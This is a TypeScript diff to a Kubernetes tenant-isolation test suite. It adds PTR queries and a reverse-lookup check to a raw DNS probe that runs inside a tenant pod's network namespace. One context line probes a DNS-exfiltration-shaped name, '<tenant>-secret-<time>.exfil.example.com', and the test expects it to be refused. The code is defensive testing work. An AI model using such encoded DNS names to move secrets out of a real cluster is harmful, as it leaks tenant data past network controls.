@@ -59,16 +59,20 @@ export function kubeletResolvConf(pod: PodDns, namespace: string, clusterDns: st
   ].join("\n");
 }
 
+/** The query types the journey asks, by their numbers (RFC 1035). */
+const QUERY_TYPES = { A: 1, PTR: 12 } as const;
+
 /**
- * A query for `name`'s A records to `server` (UDP, one try): its response code and addresses,
- * printed as `<rcode> <address,...>`. Python's standard library, run inside the asker's
- * namespace: no resolver library stands between the question and the answer.
+ * A query for `name`'s records of a type (its number) to `server` (UDP, one try): its
+ * response code and the addresses of its A records, printed as `<rcode> <address,...>`.
+ * Python's standard library, run inside the asker's namespace: no resolver library stands
+ * between the question and the answer.
  */
 const QUERY_SCRIPT = [
   "import random, socket, struct, sys",
-  "server, name = sys.argv[1], sys.argv[2]",
+  "server, name, qtype = sys.argv[1], sys.argv[2], int(sys.argv[3])",
   "qid = random.randrange(65536)",
-  "q = struct.pack('>HHHHHH', qid, 0x0100, 1, 0, 0, 0) + b''.join(bytes([len(p)]) + p.encode() for p in name.rstrip('.').split('.')) + b'\\x00' + struct.pack('>HH', 1, 1)",
+  "q = struct.pack('>HHHHHH', qid, 0x0100, 1, 0, 0, 0) + b''.join(bytes([len(p)]) + p.encode() for p in name.rstrip('.').split('.')) + b'\\x00' + struct.pack('>HH', qtype, 1)",
   "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)",
   "s.settimeout(3)",
   "s.sendto(q, (server, 53))",
@@ -84,6 +88,11 @@ const QUERY_SCRIPT = [
   "    i += size",
   "print(rcode, ','.join(found) or '-')",
 ].join("\n");
+
+/** The name a PTR query asks for an IPv4 address (`d.c.b.a.in-addr.arpa`). Pure. */
+export function reverseName(address: string): string {
+  return `${address.split(".").reverse().join(".")}.in-addr.arpa`;
+}
 
 /** One answer: its code's name and the addresses it gave. Pure. */
 export function parseQueryOutput(out: string): { rcode: string; addresses: string[] } | undefined {
@@ -105,8 +114,8 @@ export interface TenantDnsInput {
 }
 
 export interface TenantDns {
-  /** Asks the DNS as a tenant pod would, from that pod's resolv.conf: `name`'s code and addresses. */
-  readonly ask: (resolvConf: string, name: string) => Promise<{ rcode: string; addresses: string[] } | string>;
+  /** Asks the DNS as a tenant pod would, from that pod's resolv.conf: `name`'s code and addresses (A records unless another type is named). */
+  readonly ask: (resolvConf: string, name: string, type?: keyof typeof QUERY_TYPES) => Promise<{ rcode: string; addresses: string[] } | string>;
   /** Resolves a short name through the resolv.conf's search path, as the pod's libc does (getent): its addresses, or none. */
   readonly lookup: (resolvConf: string, name: string) => Promise<string[]>;
   readonly detail: string;
@@ -179,10 +188,10 @@ export async function startTenantDns(o: TenantDnsInput): Promise<TenantDns | { p
     fs.writeFileSync(file, resolvConf);
     return { file, argv: ["nsenter", `--net=${path.join(NETNS_RUN, netns)}`, "unshare", "--mount", "--propagation", "private", "sh", "-c", 'mount --bind "$1" /etc/resolv.conf && shift && exec "$@"', "sh", file, ...argv] };
   };
-  const ask = async (resolvConf: string, query: string) => {
+  const ask = async (resolvConf: string, query: string, type: keyof typeof QUERY_TYPES = "A") => {
     const server = /^nameserver (\S+)$/m.exec(resolvConf)?.[1];
     if (!server) return `no nameserver in the pod's resolv.conf`;
-    const r = await run(side.argv(["python3", "-c", QUERY_SCRIPT, server, query]), { timeoutMs: 10_000 });
+    const r = await run(side.argv(["python3", "-c", QUERY_SCRIPT, server, query, String(QUERY_TYPES[type])]), { timeoutMs: 10_000 });
     return parseQueryOutput(r.stdout) ?? `no answer from ${server} (exit ${r.code}: ${(r.stderr || r.stdout).trim().split("\n").pop()})`;
   };
   const lookup = async (resolvConf: string, short: string) => {
@@ -209,10 +218,13 @@ export async function tenantPodsDns(kc: Kubectl, dns: TenantDns, tenantId: strin
   // A platform Service (ArgoCD's API), and a name outside the cluster carrying data out.
   const platform = await dns.ask(resolvConf, `argocd-server.${ARGOCD_CHART.namespace}.svc.${TENANT_DNS.domain}`);
   const outside = await dns.ask(resolvConf, `${tenantId}-secret-${Date.now().toString(36)}.exfil.example.com`);
+  // A reverse lookup of its own Service's address: no reverse zone (it would name any namespace's Services).
+  const reverse = own ? await dns.ask(resolvConf, reverseName(own.spec.clusterIP as string), "PTR") : "no Service with an address";
   const said = (a: Awaited<ReturnType<TenantDns["ask"]>>) => (typeof a === "string" ? a : `${a.rcode}${a.addresses.length ? ` ${a.addresses.join(",")}` : ""}`);
   const ok = elsewhere.length === 0 && !!own && looked.includes(own.spec.clusterIP as string)
     && typeof fqdn !== "string" && fqdn.rcode === "NOERROR" && fqdn.addresses.includes(own.spec.clusterIP as string)
-    && typeof platform !== "string" && platform.rcode === "NXDOMAIN" && typeof outside !== "string" && outside.rcode === "REFUSED";
+    && typeof platform !== "string" && platform.rcode === "NXDOMAIN" && typeof outside !== "string" && outside.rcode === "REFUSED"
+    && typeof reverse !== "string" && reverse.rcode === "REFUSED";
   return {
     ok,
     detail: [
@@ -220,6 +232,7 @@ export async function tenantPodsDns(kc: Kubectl, dns: TenantDns, tenantId: strin
       own ? `${own.metadata.name} by its short name: ${looked.join(",") || "nothing"} (its Service ${own.spec.clusterIP}); by its full name: ${said(fqdn)}` : "no Service with an address in the namespace",
       `a platform Service: ${said(platform)}`,
       `a name outside the cluster: ${said(outside)} (answered by CoreDNS itself: it has no server to forward to)`,
+      `its Service's address in reverse: ${said(reverse)}`,
     ].join("; "),
   };
 }
